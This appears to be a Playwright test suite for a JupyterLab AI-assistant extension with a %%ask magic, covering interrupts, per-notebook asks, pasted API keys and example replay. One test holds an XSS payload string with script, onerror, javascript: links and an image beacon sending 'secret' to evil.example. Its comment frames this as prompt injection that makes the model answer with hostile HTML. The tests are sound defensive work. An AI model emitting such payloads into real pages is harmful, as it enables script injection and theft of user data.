    expect(nb.cell(0).locator(".jp-OutputArea")).to_contain_text("AskInterrupted")
    nb.wait_cell_count(3)
    nb.wait_cell_done(1)
    assert fake.calls() == 1
    nb.run(2)
    expect(nb.cell(2).locator(".jp-OutputArea")).to_have_text(re.compile(r"^\s*alive\s*$"),
                                                              timeout=WAIT_MS)
    nb.screenshot("stopped")
    saved = nb.read_saved()
    assert saved.cells[1].metadata["jupyter_ci"].get("interrupted") is True
    assert saved.cells[0].metadata["jupyter_ci"]["status"] == "interrupted"


def test_the_panel_says_when_no_notebook_is_open(lab: Lab) -> None:
    lab.goto()
    lab.panel.open()
    expect(lab.panel.message("no-notebook")).to_be_visible(timeout=WAIT_MS)
    expect(lab.panel.part("prompt")).to_be_disabled()
    expect(lab.panel.part("send")).to_be_disabled()
    lab.screenshot("no-notebook")
    lab.open_notebook("message", ["x = 1"])
    expect(lab.panel.message("no-notebook")).to_have_count(0, timeout=WAIT_MS)
    expect(lab.panel.part("prompt")).to_be_enabled()


def test_each_ask_goes_to_its_own_notebook(lab: Lab, fake: FakeLLM) -> None:
    first = lab.open_notebook("two-a", [LOAD, "%%ask\nonly in a", "a = 1"])
    second = lab.open_notebook("two-b", [LOAD, "%%ask\nonly in b"])
    # A's ask is still running when B becomes the current notebook.
    fake.push(code("import time\nprint('a step 1', flush=True)\ntime.sleep(1.5)"),
              code("in_a = 2\nprint('a step 2')"), Turn("A done."))
    first.run(1)
    expect(first.cell(2).locator(".jp-OutputArea")).to_contain_text("a step 1",
                                                                    timeout=WAIT_MS)
    second.activate()
    lab.panel.open()
    wait_answer(first, 1, "A done.")
    first.wait_cell_count(5)
    expect(first.generated()).to_have_count(2)
    assert [first.source(i) for i in (3, 4)] == ["in_a = 2\nprint('a step 2')", "a = 1"]
    second.wait_cell_count(2)
    expect(second.generated()).to_have_count(0)
    expect(lab.panel.part("ask")).to_have_count(0)
    # And the other way round.
    fake.push(code("in_b = 1\nprint('b step')"), Turn("B done."))
    second.run(1)
    wait_answer(second, 1, "B done.")
    second.wait_cell_count(3)
    expect(second.cell(2).locator(".jp-OutputArea")).to_contain_text("b step")
    expect(lab.panel.part("ask")).to_have_count(1)
    first.wait_cell_count(5)
    expect(first.generated()).to_have_count(2)
    assert "b step" not in json.dumps(first.model_json())
    second.screenshot("two-notebooks")


XSS = ('Done. <img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> '
       '<svg onload="window.__xss=3"></svg> [click me](javascript:window.__xss=4) '
       '<iframe srcdoc="<script>parent.__xss=5</script>"></iframe> **safe bold** '
       '![beacon](https://evil.example/pixel.png?d=secret) <img src="//evil.example/p.png">')


def test_html_in_an_answer_never_runs_in_the_cell_or_the_panel(lab: Lab, fake: FakeLLM) -> None:
    # Prompt injection makes the model answer with HTML: it must stay text, in both places.
    fake.push(code("xss_step = 1", XSS), Turn(XSS), Turn(XSS))
    nb = lab.open_notebook("xss", [LOAD, "%%ask\nsummarise the page"])
    nb.run(1)
    wait_answer(nb, 1, "safe bold")
    lab.panel.open()
    lab.panel.ask("summarise it again")
    entry = lab.panel.part("ask").last
    expect(entry).to_have_attribute("data-jupyter-ci-status", "done", timeout=WAIT_MS)
    answer = entry.locator('[data-jupyter-ci="answer"]')
    expect(answer).to_contain_text("safe bold")
    for link in (nb.root.get_by_text("click me"), answer.get_by_text("click me")):
        link.first.click()  # a javascript: link that survived would run now
    nb.page.wait_for_timeout(500)
    assert nb.page.evaluate("window.__xss") is None
    ask = nb.cell(1).locator(".jp-OutputArea")
    expect(ask).to_contain_text('<img src=x onerror="window.__xss=1">')
    # Inside the outputs themselves (JupyterLab's own icons sit around them).
    expect(ask.locator(".jp-OutputArea-output :is(script, svg, iframe)")).to_have_count(0)
    # The beacon stays as a bare <img alt> with no source: nothing loads.
    expect(ask.locator(".jp-OutputArea-output img[src]")).to_have_count(0)
    # The panel renders the Markdown untrusted: JupyterLab's sanitizer keeps a bare <img>,
    # and ours drops any that would load from another site (a beacon carrying data away).
    expect(answer.locator(":is(script, svg, iframe)")).to_have_count(0)
    remote = "n => [...n.querySelectorAll('img')].filter(i => /evil/.test(i.src)).length"
    assert answer.evaluate(remote) == 0
    assert nb.cell(1).locator(".jp-OutputArea").evaluate(remote) == 0
    handlers = "n => [...n.querySelectorAll('*')].flatMap(e => [...e.attributes])" \
        ".filter(a => a.name.startsWith('on') || a.value.startsWith('javascript:')).length"
    assert answer.evaluate(handlers) == 0
    assert nb.cell(1).locator(".jp-OutputArea").evaluate(handlers) == 0
    nb.screenshot("xss")


PASTED = "sk-pasted-in-the-BROWSER-2468"


def test_a_key_pasted_in_the_panel_lets_asks_run_and_is_seen_nowhere(
    bare_lab: Lab, fake: FakeLLM
) -> None:
    lab = bare_lab
    responses = lab.response_bodies()
    fake.push(code("print('through the pasted key')"), Turn("Asked with the pasted key."))
    nb = lab.open_notebook("pasted", [LOAD, "%%ask\nsay hello"])
    lab.panel.open()
    # No model: the message says so and the key form is open below it.
    expect(lab.panel.message("no-model")).to_contain_text("Paste a key", timeout=WAIT_MS)
    form = lab.panel.part("keys")
    expect(form).to_have_attribute("open", "")
    lab.screenshot("no-key-panel")
    lab.panel.part("key-input").fill(PASTED)
    lab.panel.part("key-url").fill(fake.openai_base_url)
    lab.panel.part("key-save").click()
    expect(lab.panel.part("key-status")).to_contain_text("OpenAI key saved", timeout=WAIT_MS)
    expect(lab.panel.part("key-status")).to_contain_text(f"{fake.openai_base_url} answered")
    expect(lab.panel.message("no-model")).to_have_count(0)
    expect(lab.panel.part("key-input")).to_have_value("")
    # The kernel, started before the key was given, asks through the broker.
    nb.run(1)
    wait_answer(nb, 1, "Asked with the pasted key.")
    expect(nb.cell(2).locator(".jp-OutputArea")).to_contain_text("through the pasted key",
                                                                 timeout=WAIT_MS)
    assert fake.requests[0].headers["authorization"] == f"Bearer {PASTED}"
    nb.save()
    lab.screenshot("pasted-key-ask")
    # Where it must not be: the page, its inputs, what the browser received, the notebook
    # file, the kernel's environment and the server log.
    assert PASTED not in lab.page.content()
    values = lab.page.evaluate(
        "() => Array.from(document.querySelectorAll('input, textarea')).map(e => e.value)")
    assert not [v for v in values if PASTED in v]
    assert responses and not [r for r in responses if PASTED in r]
    saved = json.dumps(read_notebook_file(nb.path))  # the save holds the ask and its step
    assert "through the pasted key" in saved and PASTED not in saved
    nb.set_source(1, "import os\nprint('in env:', any("
                  f"{PASTED!r} in open(f'/proc/{{p}}/environ', errors='ignore').read() "
                  "for p in [os.getpid(), os.getppid()]))")
    nb.run(1)
    expect(nb.cell(1).locator(".jp-OutputArea")).to_contain_text("in env: False",
                                                                 timeout=WAIT_MS)
    assert PASTED not in lab.server.log.read_text()


def test_the_example_runs_with_no_key_and_shows_replayed_cells_a_table_and_a_plot(
    bare_lab: Lab
) -> None:
    lab = bare_lab
    root = lab.server.root
    # The session's lab root is shared: another test may have copied (and run) them.
    shutil.rmtree(root / "examples", ignore_errors=True)
    shutil.copytree(EXAMPLES, root / "examples")
    lab.goto("examples/getting-started.ipynb")
    nb = lab.reload_target(root / "examples" / "getting-started.ipynb")
    nb.wait_kernel_idle()
    asks = len([c for c in read_notebook_file(nb.path).cells
                if re.match(r"\s*%%?ask\b", c.source)])
    before = nb.cells.count()
    nb.command("notebook:run-all-cells")
    # Each recorded ask replays its steps as real cells below it, code run in this kernel.
    expect(nb.generated()).not_to_have_count(0, timeout=WAIT_MS)
    expect(nb.root.locator(".jp-Cell.jp-ci-ask")).to_have_count(asks, timeout=60_000)
    assert nb.cells.count() > before
    generated = nb.generated()
    expect(generated.locator("table.dataframe").first).to_be_visible(timeout=WAIT_MS)
    expect(generated.locator(".jp-RenderedImage img").first).to_be_visible(timeout=WAIT_MS)
    for index in range(nb.cells.count()):
        if "jp-ci-ask" in (nb.cell(index).get_attribute("class") or ""):
            expect(nb.cell(index).locator(".jp-OutputArea")).to_contain_text("Done")
    lab.screenshot("example-no-key")
